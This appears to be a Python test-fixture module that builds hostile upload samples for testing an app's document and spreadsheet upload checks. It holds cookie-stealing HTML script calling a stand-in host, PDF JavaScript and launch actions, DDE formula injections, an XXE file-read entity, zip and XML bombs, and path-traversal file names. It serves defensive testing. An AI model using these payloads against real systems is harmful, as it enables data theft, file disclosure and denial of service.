"""A corpus of hostile uploads, built in memory when a test asks for it (no binary file is
kept in the repository): wrong magic bytes, programs and web pages under a document's or a
spreadsheet's name, active content in PDFs, zip bombs, XML entity tricks, formula (CSV/DDE)
injection, path-traversal and disguised file names, empty and truncated files.

Two families, each a list of :class:`Hostile`:

* :func:`document_corpus` for the document uploads (certificate, scanned MoU: PDF, JPEG or
  PNG, :data:`ikm.uploads.MAX_DOCUMENT_BYTES`);
* :func:`import_corpus` for the spreadsheet imports (IKM, PO, akad): it takes the
  endpoint's template columns and a valid row, so that the only thing wrong with a formula
  file is its formula, and the endpoint's size limit.

``name`` is the file name as the browser sends it (raw: tests put it in the multipart
header themselves, since Django's test client keeps only the base name).
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import Workbook

GIB = 1024 * 1024 * 1024
MIB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    key: str
    name: str
    build: Callable[[], bytes]

    @property
    def content(self) -> bytes:
        return self.build()


# --- Bytes of other kinds -------------------------------------------------------------------


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + b"\x00" * 50
    + b"This program cannot be run in DOS mode.\r\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SVG_SCRIPT = (
    b'<?xml version="1.0" standalone="no"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>fetch('/ikm/direktori/ekspor/?format=csv')</script></svg>\n"
)
HTML = (
    b"<!DOCTYPE html><html><head><title>Sertifikat</title></head><body>"
    b"<script>document.location='https://contoh.example/?c='+document.cookie</script>"
    b"</body></html>\n"
)
PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
WIN_INI = b"; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def pdf_with(objects: bytes) -> bytes:
    return b"%PDF-1.4\n" + objects + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


PDF_JAVASCRIPT = pdf_with(
    b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('x'))>>>>endobj"
)
PDF_JAVASCRIPT_HEX_NAME = pdf_with(
    b"1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj"
)
PDF_LAUNCH = pdf_with(
    b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)/P(/c calc)>>>>endobj"
)
PDF_EMBEDDED_EXE = pdf_with(
    b"1 0 obj<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>>>endobj\n"
    b"2 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj"
)


def pdf_javascript_in_object_stream() -> bytes:
    """The action hidden in a compressed object stream (PDF 1.5), where a scan keeps its
    dictionaries: only inflating the stream shows it."""
    inner = zlib.compress(b"2 0 <</S/JavaScript/JS(app.alert(1))>>")
    return pdf_with(
        b"1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
        + b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(inner)).encode()
        + b">>stream\n"
        + inner
        + b"\nendstream endobj"
    )


def padded(prefix: bytes, size: int) -> bytes:
    """``prefix`` followed by filler up to exactly ``size`` bytes."""
    return prefix + b"0" * (size - len(prefix))


# --- Documents --------------------------------------------------------------------------------


def document_corpus(max_bytes: int) -> list[Hostile]:
    """Hostile document uploads; ``max_bytes`` is the documents' size limit."""
    return [
        Hostile("png-bytes-named-pdf", "sertifikat.pdf", png),
        Hostile("exe-named-pdf", "sertifikat.pdf", lambda: EXE),
        Hostile("elf-named-png", "foto.png", lambda: ELF),
        Hostile("svg-script-named-png", "foto.png", lambda: SVG_SCRIPT),
        Hostile("svg-script", "gambar.svg", lambda: SVG_SCRIPT),
        Hostile("html-named-pdf", "dokumen.pdf", lambda: HTML),
        Hostile("pdf-html-polyglot", "dokumen.pdf", lambda: b"%PDF-1.4\n" + HTML),
        Hostile("png-script-polyglot", "foto.png", lambda: png() + b"<script>alert(1)</script>"),
        Hostile("pdf-javascript", "scan.pdf", lambda: PDF_JAVASCRIPT),
        Hostile("pdf-javascript-hex-escaped", "scan.pdf", lambda: PDF_JAVASCRIPT_HEX_NAME),
        Hostile("pdf-javascript-object-stream", "scan.pdf", pdf_javascript_in_object_stream),
        Hostile("pdf-launch-action", "scan.pdf", lambda: PDF_LAUNCH),
        Hostile("pdf-embedded-exe", "scan.pdf", lambda: PDF_EMBEDDED_EXE),
        Hostile("pdf-named-exe", "scan.exe", lambda: PDF),
        Hostile("pdf-named-html", "scan.html", lambda: PDF),
        Hostile("empty", "kosong.pdf", lambda: b""),
        Hostile("oversized", "besar.pdf", lambda: padded(b"%PDF-1.4\n", max_bytes + 1)),
        Hostile("traversal-posix", "../../etc/passwd.pdf", lambda: PASSWD),
        Hostile("traversal-windows", "..\\..\\win.ini.pdf", lambda: WIN_INI),
        Hostile("absolute-path", "/etc/x.pdf", lambda: PASSWD),
        Hostile("nul-byte-name", "scan.pdf\x00.exe", lambda: PDF),
        Hostile("rtl-override-name", "foto\u202egnp.exe", png),
        Hostile("name-300-characters", "s" * 296 + ".pdf", lambda: EXE),
    ]


# --- Spreadsheets -----------------------------------------------------------------------------

FORMULAS = {
    "formula-dde-equals": "=cmd|' /C calc'!A0",
    "formula-dde-plus": "+cmd|' /C calc'!A0",
    "formula-dde-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-dde-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-hyperlink": '=HYPERLINK("http://contoh.example/?d="&A2,"Klik")',
    "formula-leading-tab": "\t=cmd|' /C notepad'!A0",
}


def csv_bytes(columns, rows) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(columns)
    for row in rows:
        writer.writerow(["" if row.get(c) is None else row[c] for c in columns])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(columns, rows, *, text_cells: bool = True) -> bytes:
    """A workbook of ``rows`` (dicts); with ``text_cells`` a value beginning with = stays a
    text cell (openpyxl would make it a formula cell)."""
    book = Workbook()
    sheet = book.active
    sheet.append(list(columns))
    for row in rows:
        sheet.append([row.get(c) for c in columns])
        if text_cells:
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def replace_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
    """The zip ``package`` with ``parts`` replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in parts:
                continue
            target.writestr(info, source.read(info))
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet_xml(cells: bytes, *, prolog: bytes = b"", encoding: str = "UTF-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?>\n'.encode()
        + prolog
        + b"<worksheet "
        + _MAIN
        + b"><sheetData>"
        + cells
        + b"</sheetData></worksheet>"
    )
    return text


def inline_row(number: int, values: list[bytes]) -> bytes:
    cells = b"".join(
        b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (bytes([65 + i]), number, v)
        for i, v in enumerate(values)
    )
    return b'<row r="%d">%s</row>' % (number, cells)


def declared_size_bomb(base: bytes, declared: int = 3 * GIB // 2) -> bytes:
    """``base`` with its sheet declaring ``declared`` bytes unpacked (1.5 GiB) in both the
    local header and the central directory, in a package of a few KB: a reader that
    trusted and inflated it would need GBs; Python's zip reader stops at the declared size
    and the CRC, and the check refuses it by the declaration before inflating anything."""
    data = bytearray(base)
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        info = package.getinfo(SHEET)
        start_dir = package.start_dir
    offset = info.header_offset
    assert data[offset : offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, offset + 22, declared)
    position = start_dir
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        name = bytes(data[position + 46 : position + 46 + name_length])
        if name == SHEET.encode():
            struct.pack_into("<I", data, position + 24, declared)
        position += 46 + name_length + extra_length + comment_length
    return bytes(data)


def ratio_bomb(base: bytes, unpacked: int = 60 * MIB) -> bytes:
    """An honest package whose sheet really unpacks to ``unpacked`` bytes (60 MiB of empty
    rows) from about 60 KB: a compression ratio of about 1000."""
    row = b"<row/>"
    cells = row * (unpacked // len(row))
    return replace_parts(base, {SHEET: sheet_xml(cells)})


def many_parts(base: bytes, count: int = 5000) -> bytes:
    return replace_parts(base, {f"xl/media/x{i}.xml": b"<a/>" for i in range(count)})


def with_macros(base: bytes) -> bytes:
    return replace_parts(base, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def import_corpus(columns, row: dict, text_column: str, *, max_bytes: int) -> list[Hostile]:
    """Hostile spreadsheet uploads for an import whose template has ``columns``; ``row``
    is a valid row (a dict) and ``text_column`` a free-text column where the formula
    payloads go; ``max_bytes`` is the import's size limit."""
    columns = list(columns)
    header = [c.encode() for c in columns]

    def valid_xlsx() -> bytes:
        return xlsx_bytes(columns, [row])

    def with_payload(value: str) -> dict:
        return {**row, text_column: value}

    def xml_trick(cells: bytes, *, prolog: bytes = b"", encoding: str = "UTF-8") -> bytes:
        body = sheet_xml(inline_row(1, header) + cells, prolog=prolog, encoding=encoding)
        if encoding.upper().startswith("UTF-16"):
            body = body.decode("utf-8").encode("utf-16")
        return replace_parts(valid_xlsx(), {SHEET: body})

    payload_column = columns.index(text_column)

    def payload_row(value: bytes) -> bytes:
        values = [b""] * len(columns)
        values[payload_column] = value
        return inline_row(2, values)

    corpus = [
        Hostile("png-bytes-named-xlsx", "data.xlsx", png),
        Hostile("exe-named-xlsx", "data.xlsx", lambda: EXE),
        Hostile("exe-named-csv", "data.csv", lambda: EXE),
        Hostile("pdf-named-csv", "data.csv", lambda: PDF),
        Hostile("svg-script-named-csv", "data.csv", lambda: SVG_SCRIPT),
        Hostile("svg-script-named-xlsx", "data.xlsx", lambda: SVG_SCRIPT),
        Hostile("html-named-csv", "data.csv", lambda: HTML),
        Hostile("xlsx-named-csv", "data.csv", valid_xlsx),
        Hostile("zip-bomb-declared-1.5GiB", "data.xlsx", lambda: declared_size_bomb(valid_xlsx())),
        Hostile("zip-bomb-ratio-1000", "data.xlsx", lambda: ratio_bomb(valid_xlsx())),
        Hostile("zip-5000-parts", "data.xlsx", lambda: many_parts(valid_xlsx())),
        Hostile(
            "xxe-external-entity",
            "data.xlsx",
            lambda: xml_trick(
                payload_row(b"&xxe;"),
                prolog=b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
            ),
        ),
        Hostile(
            "xml-billion-laughs",
            "data.xlsx",
            lambda: xml_trick(
                payload_row(b"&l9;"),
                prolog=b"<!DOCTYPE worksheet ["
                + b'<!ENTITY l0 "ha">'
                + b"".join(
                    b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10)
                )
                + b"]>\n",
            ),
        ),
        Hostile(
            "xml-utf16-hiding-a-formula",
            "data.xlsx",
            lambda: xml_trick(payload_row(b"=cmd|' /C calc'!A0"), encoding="UTF-16"),
        ),
        Hostile(
            "xml-entity-escaped-formula",
            "data.xlsx",
            lambda: xml_trick(payload_row(b"&#61;cmd|' /C calc'!A0")),
        ),
        Hostile(
            "xml-cdata-hiding-a-formula",
            "data.xlsx",
            lambda: xml_trick(payload_row(b"<![CDATA[=cmd|' /C calc'!A0]]>")),
        ),
        Hostile("macros", "data.xlsx", lambda: with_macros(valid_xlsx())),
        Hostile("truncated-xlsx", "data.xlsx", lambda: valid_xlsx()[: len(valid_xlsx()) // 2]),
        Hostile("empty-csv", "data.csv", lambda: b""),
        Hostile("empty-xlsx", "data.xlsx", lambda: b""),
        Hostile(
            "oversized-csv",
            "data.csv",
            lambda: padded(",".join(columns).encode() + b"\n", max_bytes + 1),
        ),
        Hostile("oversized-xlsx", "data.xlsx", lambda: padded(b"PK\x03\x04", max_bytes + 1)),
        Hostile("traversal-posix", "../../etc/passwd.csv", lambda: PASSWD),
        Hostile("traversal-windows", "..\\..\\win.ini.xlsx", lambda: WIN_INI),
        Hostile("absolute-path", "/etc/x.csv", lambda: PASSWD),
        Hostile("nul-byte-name", "data.csv\x00.exe", lambda: csv_bytes(columns, [row])),
        Hostile("rtl-override-name", "data\u202evsc.exe", lambda: csv_bytes(columns, [row])),
        Hostile("name-300-characters", "d" * 296 + ".csv", lambda: EXE),
    ]
    for key, payload in FORMULAS.items():
        corpus.append(
            Hostile(
                f"csv-{key}", "data.csv", lambda p=payload: csv_bytes(columns, [with_payload(p)])
            )
        )
        corpus.append(
            Hostile(
                f"xlsx-text-{key}",
                "data.xlsx",
                lambda p=payload: xlsx_bytes(columns, [with_payload(p)]),
            )
        )
    return corpus
